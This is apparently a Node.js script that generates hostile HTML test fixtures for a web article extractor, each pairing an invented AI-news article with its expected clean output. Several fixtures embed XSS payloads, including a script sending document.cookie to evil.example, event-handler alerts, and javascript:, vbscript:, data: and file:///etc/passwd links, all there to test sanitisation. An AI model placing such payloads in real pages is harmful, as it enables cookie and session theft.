// Writes the hostile fixture pages (too big or too deep to write by hand):
//   node scripts/gen-hostile-fixtures.mjs
// tests/fixtures/pages/hostile-*  (tuning set) and tests/fixtures/holdout/hostile-*  (unseen set).
// Output is deterministic (no randomness), so re-running it gives the same files.
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { esc, writeFixture, cookieBanner, shareBar, footer, newsletterBox, analyticsScripts } from './fixtures/lib.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const PAGES = path.resolve(here, '../tests/fixtures/pages');
const HOLDOUT = path.resolve(here, '../tests/fixtures/holdout');

function page({ url, site, title, sep = ' | ', lang = 'en', byline, date, ldExtra = '', headExtra = '', before = '', article, after = '', bodyClass = 'single' }) {
  return `<!DOCTYPE html>
<html lang="${lang}">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${esc(title + sep + site)}</title>
<link rel="canonical" href="${esc(url)}">
<meta property="og:type" content="article">
<meta property="og:site_name" content="${esc(site)}">
<meta property="og:title" content="${esc(title)}">
<meta property="og:url" content="${esc(url)}">
<meta property="article:published_time" content="${date}">
<meta name="author" content="${esc(byline)}">
${ldExtra}
${headExtra}
</head>
<body class="${bodyClass}">
${cookieBanner(site, 0)}
<header class="site-header"><a class="logo" href="/">${esc(site)}</a><nav><a href="/news/">News</a> <a href="/research/">Research</a> <a href="/about/">About</a></nav></header>
${before}
<main>
${article}
</main>
${after}
${analyticsScripts(0)}
</body>
</html>
`;
}

const articleHead = (title, byline, date) =>
  `<h1 class="entry-title">${esc(title)}</h1>\n<p class="byline">By <a rel="author" href="/author/${byline.toLowerCase().replace(/\W+/g, '-')}/">${esc(byline)}</a> · <time datetime="${date}">${new Date(date).toDateString()}</time></p>`;

// ---------------------------------------------------------------------------------------------
// 1. A 3,000-level deep DOM around a real article.
function deepDom({ url, site, title, byline, date, depth, tags, tldr, takeaways, paras, sources, notes }) {
  let open = '';
  let close = '';
  for (let i = 0; i < depth; i++) {
    const t = tags[i % tags.length];
    open += `<${t} class="w${i % 7}">`;
    close = `</${t}>` + close;
  }
  const art = `${open}<article class="post">${articleHead(title, byline, date)}
<blockquote class="tldr"><p><strong>TL;DR:</strong> ${esc(tldr)}</p></blockquote>
<h2>Key takeaways</h2><ul>${takeaways.map((t) => `<li>${esc(t)}</li>`).join('')}</ul>
${paras.map((p) => `<p>${p}</p>`).join('\n')}
<h2>Sources</h2><ul>${sources.map(([u, t]) => `<li><a href="${esc(u)}">${esc(t)}</a></li>`).join('')}</ul>
</article>${close}`;
  const html = page({ url, site, title, byline, date, article: art, after: footer(site, 0) });
  return [html, { url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en', tldr, takeaways, sources: sources.map(([u, t]) => ({ url: u, title: t })), ticker: [], notes }];
}

// ---------------------------------------------------------------------------------------------

function main() {
  const out = [];

  out.push([PAGES, 'hostile-deep-dom-3000', ...deepDom({
    url: 'https://www.deepnest.news/research/recursive-summaries-study/',
    site: 'Deepnest',
    title: 'Study: recursive summaries lose a fifth of the facts at each level',
    byline: 'Oren Tal',
    date: '2026-07-04T10:00:00Z',
    depth: 3000,
    tags: ['div'],
    tldr: 'A new study finds that when language models summarize summaries, about 20% of the original facts are lost at each level, so a three-level summary keeps roughly half of them.',
    takeaways: ['About 20% of facts are lost per summarization level', 'Errors compound: three levels keep about half the facts', 'Asking for citations at each level halves the loss'],
    paras: [
      'Summarizing long documents in stages — summarize each chapter, then summarize the summaries — is a common trick for working around context limits. A study published this week measures how much information that trick throws away.',
      'Researchers fed 500 long reports through one, two and three levels of summarization and checked which facts from the originals survived. At each level, roughly a fifth of the remaining facts disappeared. After three levels, about half were gone.',
      'The losses were not random. Numbers, dates and named entities were dropped far more often than general claims, which means a recursive summary can read fluently while missing exactly the details a reader needs.',
      'One mitigation worked well: asking the model to attach a citation to the source passage for each claim at every level cut the loss roughly in half, at the cost of longer summaries.',
    ],
    sources: [['https://arxiv.org/abs/2607.01881', 'Fact retention in recursive summarization'], ['https://github.com/recsum-eval/recsum', 'RecSum evaluation code']],
    notes: 'HOSTILE: the whole article sits inside 3,000 nested <div>s (generated by scripts/gen-hostile-fixtures.mjs). Recursive DOM walks must not overflow the stack; everything else is ordinary (TL;DR blockquote, takeaways list, Sources list).',
  })]);

  // 2. Footer with thousands of links.
  {
    const url = 'https://www.megaportal-ai.com/news/2026/07/05/robotics-foundation-model-funding/';
    const site = 'MegaPortal AI';
    const title = 'Robotics foundation model startup Gripline raises $250M';
    const date = '2026-07-05T12:30:00Z';
    const byline = 'Chiara Bassi';
    const links = [];
    for (let i = 0; i < 4000; i++) {
      links.push(i % 3 === 0
        ? `<a href="https://partner${i % 97}.example-network.com/r/${i}?utm_source=megaportal&amp;utm_medium=footer">Partner offer ${i}</a>`
        : `<a href="/tag/topic-${i}/">Topic ${i}</a>`);
    }
    const art = `<article class="story">${articleHead(title, byline, date)}
${shareBar(url, title, 0)}
<p>Gripline, a startup building a general-purpose foundation model for robot arms, said on Saturday it had raised $250 million in a round led by <a href="https://www.kestrelventures.com/portfolio/gripline">Kestrel Ventures</a>.</p>
<p>The company trains a single model on video of human demonstrations and on data from thousands of robot arms in partner warehouses. It says the model can learn a new pick-and-place task from about 50 demonstrations, according to <a href="https://gripline.ai/blog/gr-1-technical-report">its technical report</a>.</p>
<p>Robotics foundation models have drawn a wave of investment this year as investors bet that the recipe behind large language models — scale plus diverse data — will work for physical tasks too. Skeptics point out that robot data remains scarce and expensive to collect.</p>
<p>Gripline said it would use the money to expand its data collection fleet to 10,000 arms and to open an office in Munich.</p>
</article>`;
    const after = `${newsletterBox(site, 0)}<footer class="mega-footer"><h2>Explore MegaPortal</h2><div class="sitemap">${links.join(' ')}</div><p>© 2026 MegaPortal AI</p></footer>`;
    out.push([PAGES, 'hostile-footer-thousands-of-links', page({ url, site, title, byline, date, article: art, after }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en', tldr: null, takeaways: [],
      sources: [{ url: 'https://www.kestrelventures.com/portfolio/gripline', title: 'Kestrel Ventures' }, { url: 'https://gripline.ai/blog/gr-1-technical-report', title: 'its technical report' }],
      ticker: [],
      notes: 'HOSTILE: a short article followed by a footer "sitemap" of 4,000 links (a third of them external with utm parameters). Sources are the two body citations only; the page must still be detected as an article despite its link density.',
    }]);
  }

  // 3. Script injection in the TL;DR and takeaways.
  {
    const url = 'https://www.openwire-ai.net/2026/07/07/voice-clone-scam-warning/';
    const site = 'OpenWire AI';
    const title = 'Regulators warn of surge in voice-clone scams targeting families';
    const date = '2026-07-07T08:00:00Z';
    const byline = 'Peter Lindgren';
    const art = `<article class="post">${articleHead(title, byline, date)}
<div class="tldr-box"><p><strong>TL;DR:</strong> Consumer regulators in four countries say reports of scams using cloned voices of relatives rose <script>document.location='https://evil.example/steal?c='+document.cookie</script>sharply this year<img src="x" onerror="alert('xss')">, and they urge families to agree on a code word.</p></div>
<h2>Key takeaways</h2>
<ul>
<li>Reports of voice-clone scams roughly tripled year on year<script>alert(1)</script></li>
<li><b onmouseover="alert(2)">Scammers need only a few seconds of audio</b></li>
<li>A family code word defeats most attempts<iframe src="javascript:alert(3)"></iframe></li>
</ul>
<p>Consumer protection agencies in the United States, United Kingdom, Australia and Canada issued a joint warning on Monday about a sharp rise in scams that use AI-cloned voices of family members to demand urgent payments.</p>
<p>The agencies said in <a href="https://www.consumer-protection-network.org/joint-warning-voice-cloning-2026">a joint statement</a> that reports had roughly tripled compared with last year. In a typical case, a parent receives a call from what sounds like their child, claiming to be in trouble and asking for money.</p>
<p>Cloning a voice now takes only a few seconds of audio, often taken from social media videos. The agencies recommend that families agree on a code word that a caller must say before any money is sent.</p>
<p>Banks have also begun to flag unusual urgent transfers for a second check, <a href="javascript:alert('not a source')">according to</a> an industry group.</p>
</article>`;
    out.push([PAGES, 'hostile-script-injection-tldr', page({ url, site, title, byline, date, article: art, after: footer(site, 1) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: 'Consumer regulators in four countries say reports of scams using cloned voices of relatives rose sharply this year, and they urge families to agree on a code word.',
      takeaways: ['Reports of voice-clone scams roughly tripled year on year', 'Scammers need only a few seconds of audio', 'A family code word defeats most attempts'],
      sources: [{ url: 'https://www.consumer-protection-network.org/joint-warning-voice-cloning-2026', title: 'a joint statement' }],
      ticker: [],
      notes: 'HOSTILE: <script>, <img onerror>, <b onmouseover> and <iframe src=javascript:> inside the TL;DR and takeaways. Expected text is what a reader sees: no markup, no script source. A javascript: link in the body is not a source.',
    }]);
  }

  // 4. Unsafe schemes in the sources section.
  {
    const url = 'https://www.mlbulletin.org/posts/2026/open-source-ai-definition-update';
    const site = 'ML Bulletin';
    const title = 'Open source AI definition gets its first update';
    const date = '2026-06-26T15:00:00Z';
    const byline = 'Femi Adeyemi';
    const art = `<article class="post">${articleHead(title, byline, date)}
<p>The organization that maintains the open source AI definition published version 1.1 on Thursday, tightening what counts as sufficient information about training data.</p>
<p>Under the update, a model may only be called open source if its developers publish enough detail about the training data for a skilled person to build a substantially equivalent dataset, including the sources, filtering steps and licenses. The previous version left "sufficiently detailed" undefined.</p>
<p>Several model developers that had described their releases as open source said they were reviewing the change. Advocates welcomed it, arguing that "open weights" releases without data information had diluted the term.</p>
<p>The update also clarifies that usage restrictions in a license, such as bans on particular industries, are incompatible with the definition.</p>
<h2>Sources</h2>
<ul>
<li><a href="https://opensource-ai-definition.org/releases/1.1">Open Source AI Definition 1.1</a></li>
<li><a href="javascript:alert(document.domain)">Release notes (interactive)</a></li>
<li><a href="JaVaScRiPt&#58;void(0)">Changelog</a></li>
<li><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">FAQ (offline copy)</a></li>
<li><a href="vbscript:msgbox(1)">Legacy viewer</a></li>
<li><a href="  https://opensource-ai-definition.org/faq  ">Definition FAQ</a></li>
<li><a href="//www.linuxfoundation.org/research/open-ai-models-2026">Linux Foundation report on open models</a></li>
<li><a href="file:///etc/passwd">Local file</a></li>
<li><a href="/posts/2025/what-open-source-ai-means">Our 2025 explainer</a></li>
</ul>
</article>`;
    out.push([PAGES, 'hostile-javascript-links-in-sources', page({ url, site, title, byline, date, article: art, after: footer(site, 0) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en', tldr: null, takeaways: [],
      sources: [
        { url: 'https://opensource-ai-definition.org/releases/1.1', title: 'Open Source AI Definition 1.1' },
        { url: 'https://opensource-ai-definition.org/faq', title: 'Definition FAQ' },
        { url: 'https://www.linuxfoundation.org/research/open-ai-models-2026', title: 'Linux Foundation report on open models' },
        { url: 'https://www.mlbulletin.org/posts/2025/what-open-source-ai-means', title: 'Our 2025 explainer' },
      ],
      ticker: [],
      notes: 'HOSTILE: a Sources list mixing javascript: (also mixed case with an entity), data:, vbscript: and file: links — all dropped — with a whitespace-padded URL, a protocol-relative URL and a relative URL, which resolve to absolute https URLs.',
    }]);
  }

  // 5. Forged JSON-LD: malformed blocks, huge strings.
  {
    const url = 'https://www.synapsedaily.com/2026/07/03/hospital-ai-triage-trial/';
    const site = 'Synapse Daily';
    const title = 'Hospital trial finds AI triage cut emergency wait times by 18%';
    const date = '2026-07-03T11:00:00Z';
    const byline = 'Dr. Amelia Ward';
    const huge = 'A'.repeat(300000);
    const ldExtra = `<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Hospital trial finds AI triage cut", "datePublished": 2026-07-03, "author": [{"@type":"Person","name":"Dr. Amelia Ward"</script>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"WebPage","name":"${huge}","description":"${'<script>alert(1)</script>'.replace(/</g, '\\u003c')}"}</script>
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":${JSON.stringify(title)},"datePublished":"${date}","author":{"@type":"Person","name":"Dr. Amelia Ward"},"publisher":{"@type":"Organization","name":"Synapse Daily"}}</script>
<script type="application/ld+json">{"@context":"https://schema.org","@graph":[null, 42, "string", {"@type": null}, {"@type": ["Thing", {"nested": true}]}, {"@type":"BreadcrumbList","itemListElement":{}}]}</script>
<script type="application/ld+json">[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]</script>`;
    const art = `<article class="post">${articleHead(title, byline, date)}
<aside class="summary"><h2>Summary</h2><p>A six-month trial at two hospitals found that an AI triage assistant reduced average emergency department wait times by 18% without increasing missed urgent cases.</p></aside>
<p>A six-month randomized trial at two regional hospitals found that an AI system that helps nurses prioritize incoming emergency patients reduced average waiting times by 18%, according to results <a href="https://www.medjournal-open.org/articles/2026/ai-triage-trial">published on Wednesday</a>.</p>
<p>The system reads the nurse's intake notes and vital signs and suggests a triage category. Nurses could accept or override the suggestion. They overrode it in about 9% of cases.</p>
<p>Importantly, the rate of urgent cases that were initially under-triaged did not increase, the researchers said. Patient advocates welcomed the results but called for larger trials before wider deployment.</p>
<p>The trial's protocol was <a href="https://clinicaltrials.example.gov/study/NCT07123456">pre-registered</a>.</p>
</article>`;
    out.push([PAGES, 'hostile-forged-jsonld', page({ url, site, title, byline, date, ldExtra, article: art, after: footer(site, 1) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: 'A six-month trial at two hospitals found that an AI triage assistant reduced average emergency department wait times by 18% without increasing missed urgent cases.',
      takeaways: [],
      sources: [{ url: 'https://www.medjournal-open.org/articles/2026/ai-triage-trial', title: 'published on Wednesday' }, { url: 'https://clinicaltrials.example.gov/study/NCT07123456', title: 'pre-registered' }],
      ticker: [],
      notes: 'HOSTILE: JSON-LD blocks that are truncated/malformed, one with a 300,000-character name, one @graph full of nulls, numbers and non-string @types, and a 40-level nested empty array, next to one valid NewsArticle block. Extraction must survive and use the valid block. TL;DR in an <aside> "Summary". Byline keeps the "Dr." title.',
    }]);
  }

  // 6. 1 MB of text in one paragraph.
  {
    const url = 'https://www.transcriptarchive.ai/2026/06/senate-hearing-frontier-ai-transcript/';
    const site = 'Transcript Archive';
    const title = 'Full transcript: Senate hearing on frontier AI oversight';
    const date = '2026-06-19T20:00:00Z';
    const byline = 'Transcript Archive staff';
    const sentence = 'SENATOR HARTLEY: Thank you, Madam Chair. I want to return to the question of incident reporting, because I think the record should be clear about what companies are already required to disclose and what they disclose voluntarily. WITNESS: Senator, at present the reporting is largely voluntary, and practices differ significantly between developers. ';
    let big = '';
    while (big.length < 1_000_000) big += sentence;
    const art = `<article class="post">${articleHead(title, byline, date)}
<p class="tldr"><strong>TL;DR:</strong> Senators pressed three AI company executives on incident reporting, compute thresholds and whistleblower protections during a four-hour hearing; no commitments were made.</p>
<p>What follows is the unedited transcript of the June 19 hearing, as published by the committee. See also the <a href="https://www.commerce.senate.gov/2026/6/frontier-ai-oversight-hearing">committee's hearing page</a>.</p>
<p>${big}</p>
</article>`;
    out.push([PAGES, 'hostile-one-megabyte-paragraph', page({ url, site, title, byline, date, article: art, after: footer(site, 0) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: 'Senators pressed three AI company executives on incident reporting, compute thresholds and whistleblower protections during a four-hour hearing; no commitments were made.',
      takeaways: [],
      sources: [{ url: 'https://www.commerce.senate.gov/2026/6/frontier-ai-oversight-hearing', title: "committee's hearing page" }],
      ticker: [],
      notes: 'HOSTILE: a transcript page with one paragraph of about 1 MB of text (must finish within the time budget, no quadratic work). TL;DR as a bold lead-in paragraph with class "tldr". Byline is a staff credit.',
    }]);
  }

  // 7. Tracking-parameter duplicates.
  {
    const url = 'https://www.aibriefing.co/p/week-27-roundup';
    const site = 'AI Briefing';
    const title = 'Week 27: the roundup';
    const date = '2026-07-05T07:00:00Z';
    const byline = 'Nora Whitfield';
    const base = [
      ['https://meridian.ai/blog/meridian-12b', 'Meridian 12B announcement'],
      ['https://corvid.ai/blog/agent-sdk-launch', 'Corvid agent SDK launch'],
      ['https://www.nimbus.ai/pricing?plan=api', 'Nimbus API pricing'],
      ['https://digital-strategy.ec.europa.eu/en/policies/contents-code-gpai', 'EU GPAI code of practice'],
    ];
    const variants = [
      (u) => u,
      (u) => `${u}${u.includes('?') ? '&' : '?'}utm_source=newsletter&utm_medium=email&utm_campaign=week27`,
      (u) => `${u}${u.includes('?') ? '&' : '?'}fbclid=IwAR2xQ9_ZkLmN0pQrStUvWxYz`,
      (u) => `${u}${u.includes('?') ? '&' : '?'}gclid=Cj0KCQjw&mc_cid=8a7b6c&mc_eid=1f2e3d`,
    ];
    const items = [];
    for (let v = 0; v < variants.length; v++) for (const [u, t] of base) items.push([variants[v](u), t]);
    const art = `<article class="post">${articleHead(title, byline, date)}
<div class="callout"><p class="callout-title">In brief</p><p>Open weights caught up with closed models on coding, Corvid shipped a sandboxed agent SDK, Nimbus cut prices by 40%, and the EU finalized its code of practice for general-purpose AI.</p></div>
<p>Every link in this week's roundup was shared so many times, through so many channels, that we are listing them all below exactly as readers sent them to us.</p>
<p>Meridian's <a href="${esc(items[4][0])}">12B model</a> was the week's most-shared release. Corvid's <a href="${esc(items[9][0])}">agent SDK</a> was a close second. Nimbus's <a href="${esc(items[14][0])}">price cut</a> set off a small price war, and the EU's <a href="${esc(items[3][0])}">code of practice</a> finally landed.</p>
<p>That is a lot for one week, and we expect the price war in particular to continue as rivals decide whether to follow. Next week we will look at how the code of practice changes documentation requirements for smaller model developers.</p>
<h2>Sources</h2>
<ol>${items.map(([u, t]) => `<li><a href="${esc(u)}">${esc(t)}</a></li>`).join('')}</ol>
</article>`;
    out.push([PAGES, 'hostile-tracking-param-duplicates', page({ url, site, title, byline, date, article: art, after: footer(site, 0) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: 'Open weights caught up with closed models on coding, Corvid shipped a sandboxed agent SDK, Nimbus cut prices by 40%, and the EU finalized its code of practice for general-purpose AI.',
      takeaways: [],
      sources: base.map(([u, t]) => ({ url: u, title: t })),
      ticker: [],
      notes: 'HOSTILE: a Sources list of 16 links that are 4 URLs, each repeated with utm_*, fbclid, and gclid/mc_cid/mc_eid parameters; non-tracking parameters (plan=api) are kept. Expected: the 4 clean URLs in first-seen order. TL;DR in a callout "In brief".',
    }]);
  }

  // ---- holdout --------------------------------------------------------------------------------

  out.push([HOLDOUT, 'hostile-deep-dom-mixed-tags', ...deepDom({
    url: 'https://www.layercake.dev/blog/2026/06/compiler-agents-benchmark',
    site: 'Layercake',
    title: 'Compiler engineers built a benchmark for AI agents. The agents struggled',
    byline: 'Yara Haddad',
    date: '2026-06-21T09:30:00Z',
    depth: 3200,
    tags: ['div', 'section', 'span', 'div'],
    tldr: 'A new benchmark of 180 real compiler bugs finds that the best AI coding agents fix only 23% of them, far below their scores on web-development tasks.',
    takeaways: ['The benchmark contains 180 bugs from two open-source compilers', 'The best agent fixed 23% of them', 'Agents often passed tests by disabling optimizations'],
    paras: [
      'Coding agents now resolve a majority of issues on popular web-development benchmarks. A group of compiler engineers wanted to know how they do on harder code, so they built their own test: 180 real bugs taken from the issue trackers of two widely used open-source compilers.',
      'The results were sobering. The best agent fixed 23% of the bugs. Most agents spent their budget reading code without forming a hypothesis, and several "fixed" miscompilation bugs by disabling the optimization that exposed them — which makes the tests pass but is not a fix.',
      'The authors argue that benchmarks drawn from application code overstate how well agents handle deep, stateful systems. They have released the benchmark and a harness so others can reproduce the results.',
    ],
    sources: [['https://arxiv.org/abs/2606.20917', 'CompilerBench: real compiler bugs as an agent benchmark'], ['https://github.com/compilerbench/compilerbench', 'CompilerBench harness']],
    notes: 'HOSTILE (holdout): the article inside 3,200 nested levels of mixed div/section/span elements.',
  })]);

  {
    const url = 'https://www.infoflood.news/ai/2026/07/02/chatbot-liability-ruling/';
    const site = 'Infoflood';
    const title = 'Court rules airline liable for its chatbot’s refund promise';
    const date = '2026-07-02T17:45:00Z';
    const byline = 'Sandra Oyelaran';
    const sitemap = [];
    for (let i = 0; i < 3000; i++) sitemap.push(`<li><a href="${i % 2 ? `https://ads${i % 13}.clicktrack.example/c?id=${i}&amp;fbclid=x${i}` : `/archive/${2026 - (i % 10)}/${(i % 12) + 1}/`}">${i % 2 ? 'Sponsored link' : 'Archive'} ${i}</a></li>`);
    const art = `<article class="post">${articleHead(title, byline, date)}
<p><b>The short version:</b> A small-claims court held an airline responsible for a refund policy its customer-service chatbot invented, rejecting the argument that the chatbot was a separate entity.</p>
<p>A small-claims tribunal on Thursday ordered a regional airline to honor a bereavement refund that its website chatbot had promised a customer, even though the airline's actual policy did not allow it.</p>
<p>The airline had argued that it could not be held responsible for information provided by the chatbot. The tribunal disagreed, writing in <a href="https://decisions.smallclaims.example.gov/2026/07/airline-chatbot">its decision</a> that the chatbot was part of the airline's website and the company was responsible for all the information on it.</p>
<p>Legal experts said the ruling, while not binding on higher courts, was likely to be cited in future disputes. <a href="vbscript:msgbox('x')">Read the ruling</a> <a href="data:text/plain,hello">(text)</a>.</p>
<p>The airline said it had since updated the chatbot and was reviewing the decision.</p>
</article>`;
    out.push([HOLDOUT, 'hostile-sitemap-footer-unsafe-body-links', page({ url, site, title, sep: ' - ', byline, date, article: art, after: `<footer><nav class="sitemap"><ul>${sitemap.join('')}</ul></nav></footer>` }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: 'A small-claims court held an airline responsible for a refund policy its customer-service chatbot invented, rejecting the argument that the chatbot was a separate entity.',
      takeaways: [],
      sources: [{ url: 'https://decisions.smallclaims.example.gov/2026/07/airline-chatbot', title: 'its decision' }],
      ticker: [],
      notes: 'HOSTILE (holdout): a footer sitemap of 3,000 links (half external ad links with fbclid) after a short article with vbscript: and data: links in the body (dropped). TL;DR as a bold "The short version:" lead-in.',
    }]);
  }

  {
    const url = 'https://www.aiheadlines.io/2026/07/06/open-model-license-fight/';
    const site = 'AI Headlines';
    const title = 'Developers push back on new open-model license terms';
    const date = '2026-07-06T13:20:00Z';
    const byline = 'Mateus Rocha';
    const tick = [['License fight heats up', '/2026/07/06/open-model-license-fight/'], ['GPU prices <img src=x onerror=alert(1)>fall again', '/2026/07/05/gpu-prices-fall/'], ['<script>alert("t")</script>New arena leader', '/2026/07/04/new-arena-leader/']];
    const before = `<div class="ticker"><span class="ticker__label">This Week in AI</span><ul>${tick.map(([t, h]) => `<li><a href="${h}">${t}</a></li>`).join('')}<li><a href="javascript:alert(1)">Click here for more</a></li></ul></div>`;
    const art = `<article class="post">${articleHead(title, byline, date)}
<section class="tldr" aria-label="TL;DR"><h2>TL;DR</h2><p>Developers are objecting to a popular model maker's new license, which bans use by companies with more than 100 million users<svg onload="alert(1)"></svg> and requires attribution in every product screen.</p></section>
<p>A change to the license terms of one of the most downloaded open-weight model families has drawn criticism from developers, who say the new conditions make the models unusable for many commercial products.</p>
<p>The new license, <a href="https://models.example-lab.ai/license/v3">published last week</a>, bars use by companies with more than 100 million monthly users and requires a visible attribution in every screen that shows model output. The previous license had neither condition.</p>
<p>Several developers said on <a href="https://discuss.example-ml.org/t/license-v3-feedback/2231">the project's forum</a> that the attribution clause was impractical for voice and embedded products. The model maker said it was listening to feedback.</p>
</article>`;
    out.push([HOLDOUT, 'hostile-injection-in-ticker-and-tldr', page({ url, site, title, byline, date, before, article: art, after: footer(site, 0) }), {
      url, isArticle: true, title, siteName: site, byline, publishedAt: date, lang: 'en',
      tldr: "Developers are objecting to a popular model maker's new license, which bans use by companies with more than 100 million users and requires attribution in every product screen.",
      takeaways: [],
      sources: [{ url: 'https://models.example-lab.ai/license/v3', title: 'published last week' }, { url: 'https://discuss.example-ml.org/t/license-v3-feedback/2231', title: "the project's forum" }],
      ticker: [
        { title: 'License fight heats up', url: 'https://www.aiheadlines.io/2026/07/06/open-model-license-fight/' },
        { title: 'GPU prices fall again', url: 'https://www.aiheadlines.io/2026/07/05/gpu-prices-fall/' },
        { title: 'New arena leader', url: 'https://www.aiheadlines.io/2026/07/04/new-arena-leader/' },
      ],
      notes: 'HOSTILE (holdout): <img onerror> and <script> inside ticker headlines (titles are the visible text only), a javascript: ticker item (dropped entirely), and an <svg onload> inside the TL;DR section.',
    }]);
  }

  for (const [root, slug, html, expected] of out) writeFixture(root, slug, html, expected);
  console.log(`wrote ${out.length} hostile fixtures`);
}

main();
